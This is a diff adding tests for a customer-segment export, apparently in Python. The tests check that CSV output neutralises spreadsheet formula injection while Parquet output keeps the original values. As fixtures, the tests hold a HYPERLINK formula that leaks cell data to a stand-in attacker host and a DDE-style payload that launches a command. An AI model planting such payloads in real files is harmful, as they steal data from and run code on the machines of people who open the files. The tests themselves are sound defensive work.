@@ -124,6 +124,39 @@ def test_csv_lists_are_flattened(con, settings, tmp_path: Path):
     assert export._flat(pd.DataFrame({"channels": [["app", "web"]]}))["channels"].tolist() == ["app;web"]
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_csv_exports_defuse_spreadsheet_formulas_and_parquet_keeps_values(con, settings, tmp_path: Path, w):
+    con.execute("UPDATE stg_records SET first_name = ?, last_name = '@SUM(1)' WHERE unit_id = 'crm:crmA'", [FORMULA])
+    w.rebuild(con, as_of=w.at(20))
+    (settings.segments_dir / "named.yaml").write_text("name: named\nwhere: true\nfields: [first_name, last_name]\n")
+    first, last = con.execute("SELECT first_name, last_name FROM customer_profiles WHERE customer_id = 'cA'").fetchone()
+    assert first.lower() == FORMULA.lower()  # the profile keeps what the CRM holds
+    out = tmp_path / "named.csv"
+    export_segment(con, settings, "named", "sms_marketing", out)
+    row = pd.read_csv(out, dtype=str).set_index("customer_id").loc["cA"].to_dict()
+    assert row == {"phone": "+447911100001", "first_name": f"'{first}", "last_name": f"'{last}"}
+    assert register(con)[0][3] == hashlib.sha256(out.read_bytes()).hexdigest()  # the file as written
+    typed = tmp_path / "named.parquet"
+    export_segment(con, settings, "named", "sms_marketing", typed)
+    assert pd.read_parquet(typed).set_index("customer_id").loc["cA", "first_name"] == first
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("+44 7911 123456", "'+44 7911 123456"),
+        ("+447911123456", "+447911123456"), ("-12.50", "-12.50"), ("12", "12"), ("Ann", "Ann"), ("'=1", "'=1"),
+    ],
+)  # fmt: skip
+def test_only_cells_a_spreadsheet_would_run_are_prefixed(cell: str, written: str):
+    assert export._defused(pd.DataFrame({"c": [cell, None], "n": [-1.5, 2.0]})).to_dict("list") == {
+        "c": [written, None], "n": [-1.5, 2.0],
+    }  # fmt: skip
+
+
 def test_unwritable_destination_is_one_line(con, settings, tmp_path: Path):
     blocked = tmp_path / "not_a_dir"
     blocked.write_text("a file where a folder should be")
